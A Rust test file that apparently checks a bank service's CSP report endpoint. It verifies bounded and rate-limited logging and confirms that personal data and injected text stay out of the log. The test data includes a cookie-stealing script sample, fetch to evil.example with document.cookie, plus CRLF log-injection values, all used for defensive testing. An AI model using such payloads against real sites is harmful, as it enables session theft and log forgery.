//! What browsers tell of the pages' policy: bounded, believed in nothing, and without a word of anybody's.

use exchequer::logging::Capture;
use serde_json::json;
use testkit::{Reply, TestBank};

const PATH: &str = "/v1/csp_reports";
const LINE: &str = "the policy of a page stopped something";

async fn report(bank: &TestBank, media_type: &str, body: Vec<u8>) -> Reply {
    let request =
        bank.client().request(http::Method::POST, PATH).header("content-type", media_type);
    bank.client().send(request.body(axum::body::Body::from(body)).expect("a request")).await
}

// ASVS 3.4.7: what the policy of a page stopped is a line of the log; whatever else a report says is not. ASVS 16.4.1:
// nothing of a report ends a line or begins another.
#[tokio::test]
async fn a_report_is_a_line_of_known_words_and_a_hostile_one_is_none() {
    let bank = TestBank::new().await;
    let capture = Capture::process_wide().expect("the log");
    let mark = capture.mark();
    let told = |directive: &str, blocked: &str| {
        json!({ "csp-report": {
            "document-uri": "https://bank.example/accounts?query=rent-for-april",
            "effective-directive": directive,
            "blocked-uri": blocked,
            "script-sample": "fetch('//evil.example/'+document.cookie)",
        }})
        .to_string()
        .into_bytes()
    };
    let media_type = "application/csp-report";
    let good = told("script-src-elem", "https://evil.example/asha@example.test/4111111111111111");
    assert_eq!(report(&bank, media_type, good).await.status.as_u16(), 204);
    let nested = "[".repeat(10_000).into_bytes();
    for odd in [
        Vec::new(),
        b"{".to_vec(),
        b"\xff\xfe".to_vec(),
        b"null".to_vec(),
        b"[]".to_vec(),
        b"{\"csp-report\":null}".to_vec(),
        b"{\"csp-report\":{\"line-number\":-1}}".to_vec(),
        b"{\"csp-report\":{\"line-number\":1e99}}".to_vec(),
        nested,
        told("script-src", &"x".repeat(20_000)),
    ] {
        assert_eq!(report(&bank, media_type, odd).await.status.as_u16(), 204);
    }
    let forged = told("img-src\n{\"level\":\"ERROR\"}", "\r\nERROR forged-line 4111111111111111");
    assert_eq!(report(&bank, "text/plain", forged).await.status.as_u16(), 204);
    report(&bank, media_type, vec![b' '; 70_000]).await.refused(413, "body_too_large");
    let text = capture.text_since(mark);
    let lines: Vec<&str> = text.lines().filter(|line| line.contains(LINE)).collect();
    assert_eq!(lines.len(), 2, "{lines:#?}");
    assert!(
        lines[0].contains("script-src-elem") && lines[0].contains("evil.example"),
        "{}",
        lines[0]
    );
    for secret in ["asha@", "4111111111111111", "rent-for-april", "document.cookie", "forged-line"]
    {
        assert!(!text.contains(secret), "{secret}");
    }
    // A hundred more are as many lines as a minute has.
    let many = told("style-src", "inline");
    for _ in 0..100 {
        assert_eq!(report(&bank, media_type, many.clone()).await.status.as_u16(), 204);
    }
    let text = capture.text_since(mark);
    assert_eq!(text.lines().filter(|line| line.contains(LINE)).count(), 30);
    bank.advance(60);
    assert_eq!(report(&bank, media_type, many).await.status.as_u16(), 204);
    let text = capture.text_since(mark);
    let last = text.lines().rfind(|line| line.contains(LINE)).expect("a line");
    assert!(
        last.contains("lost\":72") || last.contains("lost=72"),
        "how many were left out: {last}"
    );
}

#[tokio::test]
async fn reports_of_one_address_have_a_limit() {
    let bank = TestBank::with(|config| config.rate_limits_on = true).await;
    let mut taken = 0;
    while report(&bank, "application/csp-report", Vec::new()).await.status.as_u16() == 204 {
        taken += 1;
        assert!(taken <= 600, "without a limit");
    }
    report(&bank, "application/csp-report", Vec::new()).await.refused(429, "rate_limited");
}
